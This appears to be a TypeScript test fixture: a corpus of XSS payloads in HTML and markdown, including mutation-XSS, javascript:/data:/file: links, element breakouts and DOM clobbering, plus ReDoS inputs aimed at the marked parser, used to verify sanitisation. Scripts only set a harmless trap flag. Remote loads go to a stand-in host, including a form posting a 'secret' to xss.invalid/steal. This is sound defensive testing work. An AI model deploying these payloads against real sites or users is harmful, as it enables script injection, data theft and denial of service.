// The XSS corpus: markup and markdown that try to run code, load something, or break out of the
// element they land in. Every script in here only sets a trap: `top.__xss`, or, from a frame of
// another origin, a message to the top window. xss-corpus.spec.ts sends each through every path
// where user or corpus text reaches a DOM and checks that no trap is ever sprung.

export interface XssPayload {
  name: string;
  text: string;
}

/** What a payload runs, if anything ever runs it. */
export const TRAP = 'top.__xss=1';
/** The same from a frame that cannot touch top (data: documents, sandboxed frames). */
export const TRAP_MESSAGE = "top.postMessage('__xss','*')";
/** A host that never resolves: any request to it is a request that left the page. */
export const REMOTE = 'https://xss.invalid';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const dataHtml = `data:text/html;base64,${b64(`<script>${TRAP_MESSAGE}</script>`)}`;

const MARKUP: XssPayload[] = [
  { name: 'script', text: `<script>${TRAP}</script>` },
  { name: 'script src', text: `<script src="${REMOTE}/x.js"></script>` },
  { name: 'img onerror', text: `<img src=x onerror="${TRAP}">` },
  { name: 'img onerror, no quotes', text: `<img src=x onerror=${TRAP}>` },
  { name: 'img onerror, entity-encoded', text: '<img src="x" onerror="&#116;op.__xss=1">' },
  { name: 'remote img', text: `<img src="${REMOTE}/pixel.png">` },
  { name: 'svg onload', text: `<svg onload="${TRAP}"><circle r="4"/></svg>` },
  { name: 'svg script', text: `<svg><script>${TRAP}</script></svg>` },
  { name: 'svg animate onbegin', text: `<svg><animate onbegin="${TRAP}" attributeName="x" dur="1s"/></svg>` },
  { name: 'svg xlink javascript', text: `<svg><a xlink:href="javascript:${TRAP}"><text y="20">svg link</text></a></svg>` },
  { name: 'math xlink javascript', text: `<math><a xlink:href="javascript:${TRAP}">math link</a></math>` },
  { name: 'embed data:', text: `<embed src="${dataHtml}">` },
  { name: 'embed javascript:', text: `<embed src="javascript:${TRAP}">` },
  { name: 'object data:', text: `<object data="${dataHtml}"></object>` },
  { name: 'object remote', text: `<object data="${REMOTE}/x.swf" type="application/x-shockwave-flash"></object>` },
  { name: 'iframe srcdoc script', text: `<iframe srcdoc="<script>${TRAP}</script>"></iframe>` },
  { name: 'iframe srcdoc img', text: `<iframe srcdoc="&lt;img src=x onerror=${TRAP}&gt;"></iframe>` },
  { name: 'iframe data:', text: `<iframe src="${dataHtml}"></iframe>` },
  { name: 'iframe javascript:', text: `<iframe src="javascript:${TRAP}"></iframe>` },
  { name: 'iframe remote', text: `<iframe src="${REMOTE}/frame"></iframe>` },
  { name: 'noscript mXSS', text: `<noscript><p title="</noscript><img src=x onerror=${TRAP}>">` },
  { name: 'math mglyph style mXSS', text: `<math><mtext><table><mglyph><style><img src=x onerror=${TRAP}>` },
  {
    name: 'math mglyph comment mXSS',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${TRAP}&gt;">`,
  },
  { name: 'form math mXSS', text: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${TRAP}>` },
  { name: 'svg style mXSS', text: `<svg></p><style><a id="</style><img src=1 onerror=${TRAP}>">` },
  { name: 'svg style img', text: `<svg><style><img src=x onerror=${TRAP}></style></svg>` },
  { name: 'xmp mXSS', text: `<xmp><p title="</xmp><img src=x onerror=${TRAP}>">` },
  { name: 'template', text: `<template><img src=x onerror=${TRAP}></template>` },
  { name: 'comment breakout', text: `<!--><img src=x onerror=${TRAP}>-->` },
  { name: 'CDATA breakout', text: `<![CDATA[><img src=x onerror=${TRAP}>]]>` },
  { name: 'form and button', text: `<form action="${REMOTE}/steal"><input name=q value=secret><button formaction="javascript:${TRAP}">Send</button></form>` },
  { name: 'button onclick', text: `<button onclick="${TRAP}" autofocus onfocus="${TRAP}">press</button>` },
  { name: 'input autofocus', text: `<input autofocus onfocus="${TRAP}">` },
  { name: 'select and textarea', text: `<select onchange="${TRAP}"><option>a</option></select><textarea onfocus="${TRAP}" autofocus>t</textarea>` },
  { name: '</pre> breakout', text: `</pre><script>${TRAP}</script><pre>` },
  { name: '</code></pre> breakout', text: `</code></pre><img src=x onerror="${TRAP}">` },
  { name: '</textarea> breakout', text: `</textarea><img src=x onerror=${TRAP}>` },
  { name: '</title> breakout', text: `</title><img src=x onerror=${TRAP}>` },
  { name: '</style> breakout', text: `</style><img src=x onerror=${TRAP}>` },
  { name: '</script> breakout', text: `--></script><img src=x onerror=${TRAP}>` },
  { name: 'attribute breakout "', text: `"><img src=x onerror=${TRAP}>` },
  { name: 'attribute breakout \'', text: `' onfocus='${TRAP}' autofocus='` },
  { name: 'raw javascript: link', text: `<a href="javascript:${TRAP}">raw link</a>` },
  { name: 'entity javascript: link', text: '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:top.__xss=1">entity link</a>' },
  { name: 'vbscript: link', text: '<a href="vbscript:msgbox(1)">vb link</a>' },
  { name: 'raw file: link', text: '<a href="file:///etc/passwd">passwd</a>' },
  { name: 'raw file: img', text: '<img src="file:///etc/hostname">' },
  { name: 'object file:', text: '<object data="file:///etc/hostname"></object>' },
  { name: 'iframe file:', text: '<iframe src="file:///etc/hostname"></iframe>' },
  { name: 'style url()', text: `<div style="background:url(${REMOTE}/bg.png)">styled</div>` },
  { name: 'style @import', text: `<style>@import '${REMOTE}/x.css';</style>` },
  { name: 'link stylesheet', text: `<link rel=stylesheet href="${REMOTE}/x.css">` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=javascript:${TRAP}">` },
  { name: 'base href', text: `<base href="${REMOTE}/">` },
  { name: 'details ontoggle', text: `<details open ontoggle="${TRAP}">details</details>` },
  { name: 'video source onerror', text: `<video><source onerror="${TRAP}"></video>` },
  { name: 'audio onerror', text: `<audio src=x onerror="${TRAP}">` },
  { name: 'marquee onstart', text: `<marquee onstart="${TRAP}">marquee</marquee>` },
  { name: 'body onload', text: `<body onload="${TRAP}">` },
  { name: 'DOM clobbering', text: '<a id="notebook" name="notebook">clobber</a><form id="notebook"></form><img name="getElementById">' },
  { name: 'a ping', text: `<a href="https://example.org/" ping="${REMOTE}/ping">ping link</a>` },
  { name: 'template injection', text: "{{constructor.constructor('top.__xss=1')()}} ${top.__xss=1}" },
];

const MARKDOWN: XssPayload[] = [
  { name: 'md javascript: link', text: `[click](javascript:${TRAP})` },
  { name: 'md JaVaScRiPt: link', text: `[click](JaVaScRiPt:${TRAP})` },
  { name: 'md entity javascript: link', text: '[click](&#106;avascript:top.__xss=1)' },
  { name: 'md tab in javascript: link', text: '[click](java&#x09;script:top.__xss=1)' },
  { name: 'md javascript: autolink', text: `<javascript:${TRAP}>` },
  { name: 'md file: link', text: '[hostname](file:///etc/hostname)' },
  { name: 'md file: image', text: '![hostname](file:///etc/hostname)' },
  { name: 'md remote image', text: `![tracker](${REMOTE}/track.png)` },
  { name: 'md protocol-relative image', text: '![tracker](//xss.invalid/track.png)' },
  { name: 'md data:text/html link', text: `[data](${dataHtml})` },
  { name: 'md data:image/svg+xml image', text: `![svg](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${TRAP}"/>`)})` },
  { name: 'md image title breakout', text: `![a](${REMOTE}/a.png "t\\" onerror=\\"${TRAP}")` },
  { name: 'md link title breakout', text: `[a](https://example.org "\\" onmouseover=\\"${TRAP}")` },
  { name: 'md reference javascript:', text: `[ref]\n\n[ref]: javascript:${TRAP}` },
  { name: 'md code fence </pre>', text: `\`\`\`\n</pre><img src=x onerror=${TRAP}>\n\`\`\`` },
  { name: 'md code span </code>', text: `\`</code><img src=x onerror=${TRAP}>\`` },
  { name: 'md html block', text: `<div>\n\n<img src=x onerror=${TRAP}>\n\n</div>` },
];

const nestedList = (levels: number) => Array.from({ length: levels }, (_, i) => `${'  '.repeat(i)}- x`).join('\n');

/**
 * marked's known stack overflows and quadratic inputs (markedjs/marked#1462, #937, #1460, #4099 and
 * CVE-2022-21680/21681), bounded so that each costs marked a second or more, or throws, but stays small.
 */
export const REDOS: XssPayload[] = [
  { name: 'redos: nested blockquotes (marked#1462)', text: `${'>'.repeat(3_000)} <img src=x onerror=${TRAP}>` },
  { name: 'redos: nested lists', text: '+ '.repeat(2_500) },
  { name: 'redos: blockquotes in lists', text: '> - '.repeat(2_000) },
  { name: 'redos: indented list', text: nestedList(300) },
  { name: 'redos: e-mail run (marked#1460)', text: `${'a'.repeat(20_000)}@` },
  { name: 'redos: emphasis delimiters (marked#4099)', text: '**_* '.repeat(2_000) },
  { name: 'redos: run of !', text: '!'.repeat(20_000) },
  { name: 'redos: underscores', text: '_a'.repeat(10_000) },
  { name: 'redos: nested strong', text: `${'**'.repeat(10_000)}x${'**'.repeat(10_000)}` },
  { name: 'redos: deep raw HTML', text: '<div>'.repeat(3_000) },
  { name: 'redos: code span spaces (marked#937)', text: `\`x${' '.repeat(50_000)}x\`` },
  { name: 'redos: block.def (CVE-2022-21680)', text: `[x]:${' '.repeat(1_500)}x ${' '.repeat(1_500)} x` },
  { name: 'redos: reflinkSearch (CVE-2022-21681)', text: `[x]: x\n\n${'\\[\\]('.repeat(3_000)}` },
];

export const PAYLOADS: readonly XssPayload[] = [...MARKUP, ...MARKDOWN, ...REDOS];

/** Payloads on one line, for fields and corpus paragraphs (a corpus line is a paragraph). */
export const ONE_LINE: readonly XssPayload[] = PAYLOADS.filter((p) => !p.text.includes('\n') && p.text.length <= 2_000);

/** The ones that fit a field of at most `max` characters (tag names: 80; titles: 300). */
export const fitting = (max: number): readonly XssPayload[] => ONE_LINE.filter((p) => p.text.trim().length > 0 && p.text.length <= max);
